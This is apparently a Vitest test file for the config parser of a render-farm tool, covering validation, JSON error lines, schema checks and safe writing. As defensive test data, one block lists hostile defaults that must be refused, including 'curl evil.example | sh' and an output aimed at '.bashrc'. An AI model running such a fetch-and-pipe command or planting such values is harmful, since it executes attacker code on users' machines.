import { readdir, readFile, realpath, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import {
  farmspecJsonSchema,
  farmspecOf,
  parseFarmspec,
  readFarmspec,
  writeFarmspec,
} from "../../src/config/farmspec.ts";
import { flagOf } from "../../src/config/options.ts";
import type { Sighting } from "../../src/core/node.ts";
import { makeTemporaryFolder, type TemporaryFolder } from "../support/temporary-folder.ts";

const id = "5f0c1e9a4b7d42c68a3b9e1d7c6f2a10";
const fileOfProject = (name: string) => fileURLToPath(new URL(`../../${name}`, import.meta.url));
const parse = (value: unknown) => parseFarmspec(typeof value === "string" ? value : JSON.stringify(value), "farm.json");

let folder: TemporaryFolder;
beforeEach(async () => {
  folder = await makeTemporaryFolder();
});
afterEach(() => folder[Symbol.asyncDispose]());

test("parseFarmspec() fills in missing fields", () => {
  expect(parse({})).toEqual({ nodes: [], discover: false, defaults: {} });
  expect(parse({ nodes: [{ host: "attic" }], defaults: { fps: 25 } })).toEqual({
    ...{ nodes: [{ host: "attic", port: 7447 }], discover: false, defaults: { fps: "25" } },
  });
});

describe("parseFarmspec() names the JSON path of", () => {
  const [good, other] = [{ host: "a" }, { host: "b" }];
  test.each([
    ["nodes[2].prt", "no such field", { nodes: [good, other, { host: "c", prt: 1 }] }],
    ["nodes[1].port", "", { nodes: [good, { host: "b", port: "7447" }] }],
    ["nodes[0].port", "", { nodes: [{ host: "a", port: 65_536 }] }],
    ["nodes[0].host", "", { nodes: [{ name: "attic" }] }],
    ["nodes[0].id", "32 hexadecimal digits", { nodes: [{ host: "a", id: "attic" }] }],
    ["nodes[0]", "", { nodes: ["attic"] }],
    ["nodes", "", { nodes: "attic" }],
    ["discover", "", { discover: "yes" }],
    ["defaults.slots", "", { defaults: { slots: 0 } }],
    ["defaults.crf", "", { defaults: { crf: 64 } }],
    ["defaults.blenderVersion", "", { defaults: { blenderVersion: "newest" } }],
    ["defaults.key", "no such field", { defaults: { key: "secret" } }],
    ["defaults.keep-frames", "no such field", { defaults: { "keep-frames": true } }],
    ["node", "no such field", { node: [] }],
    ["the whole file", "", []],
    ["the whole file", "", "null"],
  ])("%s %s", (path, why, value) => {
    const failure = expect.objectContaining({
      code: "FARM_BAD_INPUT",
      message: expect.stringContaining(`Cannot use the farmspec 'farm.json': ${path}: `),
      hint: expect.stringContaining("farmspec.example.json"),
    });
    expect(() => parse(value)).toThrow(failure);
    expect(() => parse(value)).toThrow(new RegExp(why));
  });
});

describe("parseFarmspec() names the line of bad JSON:", () => {
  test.each([
    [3, "an extra comma", '{\n  "nodes": [],\n}\n'],
    [2, "a comment", '{\n  // the attic\n  "nodes": []\n}'],
    [3, "no quotes", '{\n  "nodes": [],\n  discover: true\n}'],
    [4, "a missing end", '{\n  "nodes": [\n    { "host": "a" }\n'],
    [1, "an empty file", ""],
    [4, "an extra comma in a list", '{\n  "nodes": [\n    { "host": "a" },\n  ]\n}\n'],
    [2, "a missing comma", '{\n  "discover": true "nodes": []\n}'],
    [3, "a bracket of the wrong kind", '{\n  "nodes": [\n  }\n}'],
    [2, "an unterminated string", '{\n  "name: 1,\n  "nodes": []\n}'],
    [2, "something after the end", "{}\n{}"],
    [2, "an invalid number", '{\n  "discover": 01\n}'],
  ])("line %i, %s", (line, _, text) => {
    expect(() => parse(text)).toThrow(
      expect.objectContaining({
        code: "FARM_BAD_INPUT",
        message: expect.stringMatching(`^Cannot use the farmspec 'farm\\.json': line ${line} is not JSON: `),
      }),
    );
  });
});

test("readFarmspec() ignores that the usual farmspec is missing, but not that a named one is", async () => {
  const path = join(folder.path, "farmspec.json");
  expect(await readFarmspec(path, true)).toBeUndefined();
  await expect(readFarmspec(path, false)).rejects.toMatchObject({
    ...{ code: "FARM_BAD_INPUT", message: expect.stringContaining(path) },
  });
  await expect(readFarmspec(folder.path, true)).rejects.toMatchObject({ code: "FARM_BAD_INPUT" });
});

test("farmspec.example.json can be read, and shows every kind of field", async () => {
  const example = await readFarmspec(fileOfProject("farmspec.example.json"), false);
  expect(example?.nodes.length).toBeGreaterThan(1);
  expect(example?.nodes.some((node) => node.id !== undefined)).toBe(true);
  expect(Object.keys(example?.defaults ?? {}).length).toBeGreaterThan(1);
});

test("farmspec.schema.json is up to date with the schema that reads farmspecs", async () => {
  const written = JSON.parse(await readFile(fileOfProject("farmspec.schema.json"), "utf8"));
  expect(written, "run: node scripts/farmspec-schema.mjs").toEqual(JSON.parse(JSON.stringify(farmspecJsonSchema())));
});

test("the example conforms to the JSON schema, as an editor checks it; an invalid farmspec does not", async () => {
  const schema = JSON.parse(await readFile(fileOfProject("farmspec.schema.json"), "utf8"));
  const example = JSON.parse(await readFile(fileOfProject("farmspec.example.json"), "utf8"));
  expect(violations(schema, example)).toEqual([]);
  expect(example.$schema).toBe("./farmspec.schema.json");
  const wrong = { nodes: [{ host: "a", prt: 1 }, { port: 70_000 }], discover: 1, defaults: { order: "random" } };
  expect(violations(schema, wrong)).toEqual([
    ...["/nodes/0: prt", "/nodes/1: host is missing", "/nodes/1/port: maximum", "/discover: type"],
    "/defaults/order: enum",
  ]);
});

describe("farmspecOf()", () => {
  const seen: Sighting = {
    ...{ id, name: "attic", blenderVersion: "4.3.2", slots: 2, state: "busy", keyId: "c0ffee42", source: "mdns" },
    addresses: [
      { host: "192.168.1.20", port: 7447 },
      { host: "10.0.0.5", port: 7447 },
    ],
  };

  test("records only how to find a node again: no key, and nothing that changes", () => {
    const { $schema, ...spec } = farmspecOf([seen, { addresses: [{ host: "b", port: 1 }], source: "mdns" }]);
    expect(spec).toEqual({
      nodes: [
        { id, name: "attic", host: "192.168.1.20", port: 7447 },
        { host: "b", port: 1 },
      ],
      ...{ discover: true, defaults: {} },
    });
    expect($schema).toMatch(/farmspec\.schema\.json$/);
    expect(JSON.stringify(spec)).not.toContain("c0ffee42");
  });

  test("omits a node without an address", () => {
    expect(farmspecOf([{ ...seen, addresses: [] }]).nodes).toEqual([]);
  });

  test("can be written and read again, and is never written in part", async () => {
    const path = join(folder.path, "farmspec.json");
    await writeFarmspec(path, farmspecOf([seen]));
    expect(await readFarmspec(path, false)).toEqual(farmspecOf([seen]));
    expect(await readFile(path, "utf8")).toMatch(/^\{\n {2}"\$schema"/); // indented, with a line break at the end
    expect(await readFile(path, "utf8")).toMatch(/\}\n$/);
    await expect(writeFarmspec(join(path, "below-a-file"), farmspecOf([]))).rejects.toMatchObject({
      ...{ code: "FARM_OUTPUT_UNWRITABLE", hint: expect.stringContaining("--output FILE") },
    });
    expect(await readdir(folder.path)).toEqual(["farmspec.json"]);
  });

  test("$schema of a written farmspec names a file of the package", async () => {
    const { $schema } = farmspecOf([]);
    const { name, files } = JSON.parse(await readFile(fileOfProject("package.json"), "utf8"));
    expect($schema).toBe(`./node_modules/${name}/farmspec.schema.json`);
    expect(files).toContain("farmspec.schema.json");
  });
});

test.skipIf(process.platform === "win32").each([
  ["a file", "precious"],
  ["nothing yet", "new"],
])("writeFarmspec() replaces a link to %s instead of following it", async (_, target) => {
  await writeFile(join(folder.path, "precious"), "mine");
  const path = join(folder.path, "farmspec.json");
  await symlink(target, path);
  await writeFarmspec(path, farmspecOf([]));
  expect(await readFile(join(folder.path, "precious"), "utf8")).toBe("mine");
  expect(await readdir(folder.path)).toEqual(["farmspec.json", "precious"]);
  expect(await readFarmspec(path, false)).toMatchObject({ nodes: [] });
});

describe("a farmspec may come from somebody else, so its defaults may not", () => {
  test.each<[what: string, defaults: Record<string, unknown>]>([
    ["run a command", { onDone: "curl evil.example | sh" }],
    ["name a program", { ffmpeg: "./ffmpeg" }],
    ["name another program", { blender: "./blender" }],
    ["allow scripts", { allowScripts: true }],
    ["enable add-ons", { addons: "lux" }],
    ["name a node", { nodes: "evil.example" }],
    ["name a key", { keyFile: "./key" }],
    ["name a certificate authority", { tlsCa: "./ca.pem" }],
    ["name the output", { output: "/home/you/.bashrc" }],
    ["name a poster", { poster: "/home/you/picture.png" }],
    ["replace an output", { overwrite: true }],
    ["set frames of an earlier run aside", { fresh: true }],
    ["answer questions", { yes: true }],
    ["read another farmspec", { farmspec: "../farmspec.json" }],
    ["hide the log", { logLevel: "silent" }],
  ])("%s", (_, defaults) => {
    const read = () => parseFarmspec(JSON.stringify({ defaults }), "farmspec.json");
    const [name = ""] = Object.keys(defaults);
    expect(read).toThrow(`defaults.${name}: a farmspec cannot set ${flagOf(name)}`);
  });
});

describe("the asset roots of a farmspec", () => {
  const read = async (assetRoot: readonly string[]) => {
    const path = join(folder.path, "farmspec.json");
    await writeFile(path, JSON.stringify({ defaults: { assetRoot } }));
    return (await readFarmspec(path, false))?.defaults.assetRoot;
  };

  test("are relative to its folder", async () => {
    const own = await realpath(folder.path);
    expect(await read([".", "assets/tex"])).toEqual([own, join(own, "assets/tex")]);
  });

  test.each(["..", "/etc", "assets/../../other", "link"])("cannot be outside it: %s", async (root) => {
    await symlink("/etc", join(folder.path, "link"));
    await expect(read([root])).rejects.toMatchObject({
      ...{ code: "FARM_BAD_INPUT", message: expect.stringMatching(/assetRoot: .* is outside the farmspec's folder$/) },
    });
  });
});

test("a secret in a farmspec is refused without being shown", async () => {
  const path = join(folder.path, "farmspec.json");
  await writeFile(path, JSON.stringify({ nodes: [{ host: "a", key: "AAAA-SECRET" }] }));
  const failure = (await readFarmspec(path, false).catch((error: unknown) => error)) as Error;
  expect(failure.message).toContain("nodes[0].key");
  expect(failure.message).not.toContain("SECRET");
});

interface Schema {
  readonly type?: string | readonly string[];
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly enum?: readonly unknown[];
  readonly pattern?: string;
  readonly minimum?: number;
  readonly maximum?: number;
}

/** What an editor would mark, for the JSON Schema keywords that our schema uses. */
function violations(schema: Schema, value: unknown, path = ""): string[] {
  const types: readonly string[] = schema.type === undefined ? [] : [schema.type].flat();
  const isType = (type: string) =>
    type === "integer" ? Number.isInteger(value) : type === (Array.isArray(value) ? "array" : typeof value);
  if (types.length > 0 && !types.some(isType)) return [`${path}: type`];
  if (schema.enum && !schema.enum.includes(value)) return [`${path}: enum`];
  if (typeof value === "string" && schema.pattern && !new RegExp(schema.pattern).test(value))
    return [`${path}: pattern`];
  if (typeof value === "number" && value > (schema.maximum ?? value)) return [`${path}: maximum`];
  if (typeof value === "number" && value < (schema.minimum ?? value)) return [`${path}: minimum`];
  const { items } = schema;
  if (Array.isArray(value)) {
    return items ? value.flatMap((item, index) => violations(items, item, `${path}/${index}`)) : [];
  }
  if (typeof value !== "object" || value === null) return [];
  const missing = (schema.required ?? []).filter((name) => !(name in value));
  return [
    ...missing.map((name) => `${path}: ${name} is missing`),
    ...Object.entries(value).flatMap(([name, field]) => {
      const known = schema.properties?.[name];
      return known ? violations(known, field, `${path}/${name}`) : [`${path}: ${name}`];
    }),
  ];
}
